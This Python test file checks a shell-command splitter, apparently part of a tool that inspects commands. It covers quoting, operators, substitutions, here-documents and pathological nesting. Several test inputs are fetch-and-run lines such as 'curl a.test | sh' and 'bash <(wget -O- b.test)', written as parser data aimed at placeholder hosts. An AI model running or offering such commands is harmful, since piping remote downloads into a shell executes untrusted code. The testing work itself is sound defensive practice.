import time

from hypothesis import given
from hypothesis import strategies as st

from lazaretto.parse.shell_words import split


def words(text: str) -> list[tuple[tuple[str, ...], str]]:
    return [(command.words, command.after) for command in split(text).commands]


def test_operators_quotes_and_comments() -> None:
    assert words("cd 'my dir' && node \"x y.js\" & curl a.test | sh # done") == [
        (("cd", "my dir"), "&&"),
        (("node", "x y.js"), "&"),
        (("curl", "a.test"), "|"),
        (("sh",), ""),
    ]


def test_substitutions_redirections_and_lines() -> None:
    commands = split('echo a\nsh -c "$(curl -s a.test)" >/dev/null 2>&1\nbash <(wget -O- b.test)').commands
    assert [command.line for command in commands] == [1, 2, 3]
    assert commands[1].substitutions == ("curl -s a.test",)
    assert commands[1].outputs == ("/dev/null",)
    assert commands[2].inputs == ("wget -O- b.test",)


def test_a_here_document_is_not_read_as_commands() -> None:
    commands = split("cat > x <<'EOF'\ncurl a.test | sh\nEOF\nls").commands
    assert [command.words for command in commands] == [("cat",), ("ls",)]
    assert commands[0].inputs == ("curl a.test | sh",)
    assert commands[1].line == 4


def test_windows_paths_keep_their_backslashes() -> None:
    assert words("node scripts\\run.js") == [(("node", "scripts\\run.js"), "")]


@given(st.text(alphabet="ab \n\t'\"`$()<>|&;\\#EOF-{}=", max_size=300))
def test_any_text_splits(text: str) -> None:
    assert len(split(text).commands) <= len(text) + 1


def test_hostile_nesting_takes_no_time() -> None:
    start = time.perf_counter()
    for text in ("$(" * 40_000, '"$(' * 30_000, "`" * 60_000, "<<E" * 20_000, "'" * 65_000, "(" * 65_000):
        split(text)
    assert time.perf_counter() - start < 8
